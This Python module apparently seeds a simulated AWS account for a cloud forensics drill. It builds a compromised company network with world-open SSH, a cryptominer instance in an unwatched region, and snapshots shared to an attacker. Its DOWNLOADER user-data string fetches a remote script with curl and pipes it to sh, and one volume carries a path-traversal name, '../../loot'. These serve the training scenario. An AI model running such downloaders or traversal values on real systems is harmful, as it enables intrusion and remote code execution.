"""Networks, instances, disks, images and snapshots."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import timedelta
from typing import Any

from forensics.drill.disks import GIB, Disk, partitioned, whole
from forensics.drill.instances import Console
from forensics.drill.seed import filesystems as on_disk
from forensics.drill.seed.names import ATTACKER, HOSTILE_TAGS, TERMINAL
from forensics.drill.seed.stage import Stage
from forensics.drill.world import EVIDENCE

HOME = "eu-west-1"
BUILD = "us-east-1"
UNWATCHED = "ap-southeast-1"

DOWNLOADER = (
    "#!/bin/sh\ncurl -fsS http://198.51.100.23/k.sh | sh\nexport AWS_SECRET=wJalrXUtnFEMI/EXAMPLEKEY\n"
)
BOOT = "[    0.000000] Linux version 6.1.0-harbour (gcc 13.2)\r\n[    2.718281] EXT2-fs (xvda1): mounted\r\n"


@dataclass(frozen=True, slots=True)
class Machine:
    """One instance, with the sizes of its disks in GiB."""

    name: str
    region: str
    kind: str
    disks: Mapping[str, int]
    group: str
    image: str = "ami-0aa11bb22cc33dd44"
    profile: str = ""
    user_data: str = ""
    tags: Mapping[str, str] = field(default_factory=dict)
    console: tuple[bytes, bytes] = (BOOT.encode(), b"login: \r\n")
    stopped: bool = False


MACHINES = (
    Machine(
        "web-1",
        HOME,
        "m6i.large",
        {"/dev/sda1": 8, "/dev/sdb": 4},
        "launch-wizard-1",
        profile="web-server",
        user_data=DOWNLOADER,
        console=(BOOT.encode() + TERMINAL, b"[66601.4] cron: (root) CMD (curl -fsS k.sh)\r\n"),
    ),
    Machine("api-1", HOME, "c7g.large", {"/dev/sda1": 8}, "web", profile="api-server"),
    Machine("jump-1", HOME, "t2.micro", {"/dev/sda1": 8}, "launch-wizard-1"),
    Machine("report-1", HOME, "m6i.large", {"/dev/sda1": 8}, "web", stopped=True),
    Machine("build-1", BUILD, "c6i.xlarge", {"/dev/sda1": 16}, "default", user_data="#!/bin/sh\nmake\n"),
    Machine(
        "cache-01",
        UNWATCHED,
        "c7i.24xlarge",
        {"/dev/sda1": 8},
        "default",
        user_data=DOWNLOADER,
        tags=HOSTILE_TAGS,
        console=(BOOT.encode() + TERMINAL * 900, TERMINAL),  # more than the 64 KiB that EC2 keeps
    ),
)


def contents(name: str, device: str) -> Disk:
    """Give what lies on a machine's disk."""
    match name, device:
        case "web-1", "/dev/sdb":
            return whole(4 * GIB, on_disk.web_data())
        case "web-1", _:
            return partitioned(8 * GIB, on_disk.web_root(), serial=0x1B0A2C3D)
        case "cache-01", _:
            return partitioned(8 * GIB, on_disk.miner(), serial=0x2C1D3E4F)
        case "build-1", _:
            return partitioned(16 * GIB, on_disk.plain(name), serial=0x3D2E4F5A)
        case _:
            return partitioned(8 * GIB, on_disk.plain(name), serial=0x4E3F5A6B)


def network(stage: Stage) -> Mapping[str, str]:
    """Make the company's network at home; give the ids of what instances need, by name."""
    ec2 = stage.client("ec2", HOME)
    vpc = ec2.create_vpc(CidrBlock="10.20.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.20.1.0/24", AvailabilityZone=f"{HOME}a")["Subnet"][
        "SubnetId"
    ]
    gateway = ec2.create_internet_gateway()["InternetGateway"]["InternetGatewayId"]
    ec2.attach_internet_gateway(InternetGatewayId=gateway, VpcId=vpc)
    table = ec2.create_route_table(VpcId=vpc)["RouteTable"]["RouteTableId"]
    ec2.create_route(RouteTableId=table, DestinationCidrBlock="0.0.0.0/0", GatewayId=gateway)
    ec2.associate_route_table(RouteTableId=table, SubnetId=subnet)
    web = _group(ec2, vpc, "web", "shop", (80, 443), "0.0.0.0/0")
    open_to_all = _group(ec2, vpc, "launch-wizard-1", "launch-wizard-1 created", (22,), "0.0.0.0/0")
    ec2.create_key_pair(KeyName="ops")
    ec2.create_tags(Resources=[vpc, subnet], Tags=[{"Key": "Name", "Value": "shop"}])
    return {"vpc": vpc, "subnet": subnet, "web": web, "launch-wizard-1": open_to_all}


def _group(ec2: Any, vpc: str, name: str, about: str, ports: tuple[int, ...], source: str) -> str:
    made = str(ec2.create_security_group(GroupName=name, Description=about, VpcId=vpc)["GroupId"])
    ec2.authorize_security_group_ingress(
        GroupId=made,
        IpPermissions=[
            {"IpProtocol": "tcp", "FromPort": port, "ToPort": port, "IpRanges": [{"CidrIp": source}]}
            for port in ports
        ],
    )
    return made


def launch(stage: Stage, machine: Machine, places: Mapping[str, str]) -> str:
    """Launch a machine, and write its disks and its console."""
    ec2 = stage.client("ec2", machine.region)
    where = {}
    if machine.region == HOME:
        where = {"SubnetId": places["subnet"], "SecurityGroupIds": [places[machine.group]]}
    extra = {"IamInstanceProfile": {"Name": machine.profile}} if machine.profile else {}
    instance = ec2.run_instances(
        ImageId=machine.image,
        InstanceType=machine.kind,
        MinCount=1,
        MaxCount=1,
        KeyName="ops",
        UserData=machine.user_data,
        BlockDeviceMappings=[
            {"DeviceName": device, "Ebs": {"VolumeSize": size, "VolumeType": "gp3"}}
            for device, size in machine.disks.items()
        ],
        TagSpecifications=[_tags("instance", {"Name": machine.name, **machine.tags})],
        **where,
        **extra,
    )["Instances"][0]["InstanceId"]
    found = ec2.describe_volumes(Filters=[{"Name": "attachment.instance-id", "Values": [instance]}])[
        "Volumes"
    ]
    for volume in found:
        device = volume["Attachments"][0]["Device"]
        stage.shelf("disks", machine.region)[volume["VolumeId"]] = contents(machine.name, device)
        tags = [{"Key": "Name", "Value": f"{machine.name} {device}"}]
        ec2.create_tags(Resources=[volume["VolumeId"]], Tags=tags)
    stage.shelf("consoles", machine.region)[instance] = Console(*machine.console)
    if machine.stopped:
        ec2.stop_instances(InstanceIds=[instance])
    return str(instance)


def _tags(kind: str, tags: Mapping[str, str]) -> Mapping[str, Any]:
    return {"ResourceType": kind, "Tags": [{"Key": key, "Value": value} for key, value in tags.items()]}


def leftovers(stage: Stage, instances: Mapping[str, str]) -> None:
    """Leave what lay around, and what the attacker shared and detached."""
    ec2 = stage.client("ec2", HOME)
    address = ec2.allocate_address(Domain="vpc")["AllocationId"]
    ec2.associate_address(AllocationId=address, InstanceId=instances["web-1"])
    loot = ec2.create_volume(AvailabilityZone=f"{HOME}a", Size=2, VolumeType="gp3", TagSpecifications=[
        _tags("volume", {"Name": "../../loot", **HOSTILE_TAGS})
    ])["VolumeId"]  # fmt: skip
    stage.shelf("disks", HOME)[loot] = whole(2 * GIB, on_disk.detached())
    shared = ec2.create_snapshot(VolumeId=loot, Description="x")["SnapshotId"]
    ec2.modify_snapshot_attribute(
        SnapshotId=shared, Attribute="createVolumePermission", OperationType="add", UserIds=[ATTACKER]
    )
    image = ec2.create_image(InstanceId=instances["api-1"], Name="api-golden", NoReboot=True)["ImageId"]
    ec2.modify_image_attribute(ImageId=image, LaunchPermission={"Add": [{"Group": "all"}]})
    ec2.create_launch_template(
        LaunchTemplateName="fleet",
        LaunchTemplateData={"ImageId": "ami-0aa11bb22cc33dd44", "InstanceType": "c7i.24xlarge"},
    )
    _strangers_snapshot(stage)
    _age(stage)


def _strangers_snapshot(stage: Stage) -> None:
    # public, of another account: who lists snapshots without an owner gets it too
    ec2 = stage.client("ec2", HOME, EVIDENCE)
    volume = ec2.create_volume(AvailabilityZone=f"{HOME}a", Size=1)["VolumeId"]
    public = ec2.create_snapshot(VolumeId=volume, Description="public data set")["SnapshotId"]
    ec2.modify_snapshot_attribute(
        SnapshotId=public, Attribute="createVolumePermission", OperationType="add", GroupNames=["all"]
    )


def _age(stage: Stage) -> None:
    """Let what was made here be of the past: snapshots a month old and complete, images available."""
    ec2 = stage.client("ec2", HOME)
    ec2.describe_snapshots(OwnerIds=["self"])
    for (room, _, _), kept in stage.world.shelf.items():
        if room == "snapshots":
            for one in kept.values():
                one.ended, one.started = "completed", one.started - timedelta(days=30)
        if room == "images":
            kept.update(dict.fromkeys(kept, 0.0))
    ec2.describe_images(Owners=["self"])
